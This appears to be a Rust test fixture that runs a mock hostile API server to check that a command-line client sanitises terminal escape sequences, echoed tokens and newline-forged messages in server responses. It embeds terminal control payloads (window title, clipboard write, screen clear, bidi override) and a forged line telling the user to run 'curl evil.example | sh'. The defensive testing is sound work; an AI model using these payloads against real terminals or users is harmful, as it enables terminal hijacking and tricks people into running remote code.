//! A hostile MuninX-like server for the tests: ids, names, error texts and request ids
//! carry terminal control sequences and echo the caller's token.

#![allow(dead_code)]

use axum::Json;
use axum::Router;
use axum::http::{HeaderMap, HeaderValue, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use serde_json::{Value, json};

/// The token the profile sends, and the server echoes back.
pub const TOKEN: &str = "odk-hostile-echoed-token-4b1f9e";

/// Every kind of sequence a terminal would obey, then the token.
pub fn hostile(label: &str) -> String {
    format!(
        "{label}\u{1b}]0;pwned\u{7}\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\u{1b}[6n\u{9b}6n\u{202e}evil {TOKEN}"
    )
}

fn org() -> Value {
    json!({
        "id": hostile("co-"),
        "tenant-id": hostile("tnt"),
        "display-name": hostile("Name"),
        "domains": [hostile("dom")],
        "notes": hostile("line one\nline two"),
        "status": "active",
        "created-at": "2024-03-07T16:18:00Z",
        "updated-at": "2025-02-01T17:07:00Z",
    })
}

fn user() -> Value {
    json!({
        "email": hostile("mail"),
        "name": hostile("First"),
        "last-name": hostile("Last"),
        "type": "admin",
        "agent-type": "human",
        "organization": hostile("tnt"),
        "status": "active",
        "auto-assign-tickets": false,
        "created-at": "2024-01-13T11:09:00Z",
    })
}

/// What a server's value can make of a headline when a new line in it is printed as
/// one: a line that reads as orgdeck's own.
pub const FORGED_LINE: &str = "error: your token expired; run curl evil.example | sh";

/// An organization whose name and id would each start a forged line.
fn forged_org() -> Value {
    json!({
        "id": format!("co-9\n{FORGED_LINE}"),
        "tenant-id": "tnt",
        "display-name": format!("Forged\n{FORGED_LINE}"),
        "domains": [],
        "status": "active",
        "created-at": "2025-02-01T17:07:00Z",
        "updated-at": "2025-02-01T17:07:00Z",
    })
}

/// A user whose email and name would each start a forged line.
fn forged_user() -> Value {
    json!({
        "email": format!("new@example.com\n{FORGED_LINE}"),
        "name": format!("New\r\n{FORGED_LINE}"),
        "last-name": "User",
        "type": "customer",
        "status": "pending",
        "auto-assign-tickets": false,
        "created-at": "2025-02-01T17:07:00Z",
    })
}

/// Every answer names the token as its request id.
fn echoing(status: StatusCode, body: Value, request_id: &str) -> Response {
    let mut headers = HeaderMap::new();
    headers.insert("x-request-id", HeaderValue::from_str(request_id).unwrap());
    headers.insert(
        "content-type",
        HeaderValue::from_static("application/problem+json"),
    );
    (status, headers, Json(body)).into_response()
}

/// A refusal whose body spells the token with JSON escapes (`\u0074…`, and `\/`
/// as PHP writes a slash), which decoding the body gives back.
fn escaped_echo() -> Response {
    let spelled: String = TOKEN
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect();
    let body = format!(
        r#"{{"title":"conflict for {spelled}","detail":"\/{spelled}\/","errors":[{{"pointer":"/domains","detail":"{spelled}"}}]}}"#
    );
    let mut headers = HeaderMap::new();
    headers.insert(
        "content-type",
        HeaderValue::from_static("application/problem+json"),
    );
    (StatusCode::CONFLICT, headers, body).into_response()
}

fn router() -> Router {
    let ok = |body: Value| echoing(StatusCode::OK, body, &format!("req-{TOKEN}"));
    Router::new()
        .route(
            "/customer-organizations",
            get(move || async move { ok(json!({ "customer-organizations": [org()] })) }).post(
                |Json(body): Json<Value>| async move {
                    if body["display-name"] == "Escaped" {
                        return escaped_echo();
                    }
                    // "Fine" is refused; any other name is created, as a forged one.
                    if body["display-name"] != "Fine" {
                        return echoing(StatusCode::CREATED, forged_org(), "req-plain");
                    }
                    echoing(
                        StatusCode::UNPROCESSABLE_ENTITY,
                        json!({
                            "title": hostile("refused"),
                            "errors": [{ "pointer": "/display-name", "detail": hostile("bad name") }],
                        }),
                        &format!("req-{TOKEN}"),
                    )
                },
            ),
        )
        .route(
            "/customer-organizations/{id}",
            get(move || async move { ok(org()) }).patch(|| async {
                // The request id in the body this time, where the header is harmless.
                echoing(
                    StatusCode::CONFLICT,
                    json!({ "title": hostile("conflict"), "request_id": TOKEN }),
                    "req-plain",
                )
            }),
        )
        .route("/users/me", get(move || async move { ok(user()) }))
        .route(
            "/users",
            get(move || async move { ok(json!({ "users": [user()] })) })
                .post(|| async { echoing(StatusCode::CREATED, forged_user(), "req-plain") }),
        )
        // The read-back of an invite (`/users/me` is the more specific route).
        .route(
            "/users/{id}",
            get(|| async { echoing(StatusCode::OK, forged_user(), "req-plain") }),
        )
}

/// The hostile server, on a runtime of its own so the test stays synchronous.
pub struct Hostile;

impl Hostile {
    pub fn start() -> super::Served {
        super::serve(router())
    }
}
